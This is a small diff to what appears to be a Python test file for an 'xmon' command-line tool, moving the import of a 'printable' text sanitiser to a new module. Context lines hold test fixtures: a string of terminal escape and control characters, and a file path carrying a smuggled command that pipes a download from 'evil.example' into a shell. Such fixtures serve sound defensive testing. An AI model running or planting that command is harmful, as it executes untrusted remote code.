@@ -13,8 +13,8 @@ import pytest
 from xmon import client
 from xmon.cli import programs
 from xmon.cli.capture import describe
-from xmon.cli.safe_text import printable
 from xmon.client import CaptureResult, HloText
+from xmon.views.safe_text import printable
 
 EVIL = "\x1b]0;pwned\x07\x1b[2J\u2028\u0085\x9b"
 INJECTION = "/tmp/x; curl evil.example | sh"
